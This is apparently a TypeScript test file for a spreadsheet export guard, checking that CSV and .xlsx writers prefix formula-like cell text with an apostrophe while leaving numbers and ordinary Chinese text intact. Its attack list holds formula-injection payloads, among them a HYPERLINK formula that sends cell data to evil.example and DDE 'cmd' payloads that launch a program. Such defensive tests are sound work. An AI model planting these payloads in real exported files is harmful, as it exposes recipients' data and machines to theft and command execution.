import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from './formula-guard.ts';
import { writeCsv } from './write-csv.ts';
import { writeXlsx } from './write-xlsx.ts';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('neutraliseFormula', () => {
  it('puts an apostrophe before every text a spreadsheet would run', () => {
    for (const text of ATTACKS) expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('leaves numbers, a lone dash and ordinary text as they are', () => {
    for (const text of ['-12.50', '+3', '-1,234.00', '-5%', '-', '某某集团有限公司', "'=1", ''])
      expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('the shared writers', () => {
  const columns = [
    { key: 'name', header: '户主姓名' },
    { key: 'relief', header: '化解金额', kind: 'decimal' as const, places: 2 },
  ];
  const records = ATTACKS.map((name) => ({ name, relief: '-12.50' }));

  it('neutralise formulas in every CSV cell and keep numbers', () => {
    const lines = writeCsv(columns, records).slice(1).split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")",-12.50`);
    expect(lines[2]).toBe(`'+cmd|' /C calc'!A0,-12.50`);
    for (const line of lines.slice(1, -1)) expect(line).toMatch(/^"?'/);
  });

  it('neutralise formulas in .xlsx text cells and keep numbers as numbers', async () => {
    const bytes = await writeXlsx([{ name: '结果', notes: ['=1+1'], columns, records }]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('A1').value).toBe("'=1+1");
    expect(sheet.getCell('A3').value).toBe(`'${ATTACKS[0]}`);
    expect(sheet.getCell('B3').value).toBe(-12.5);
  });
});
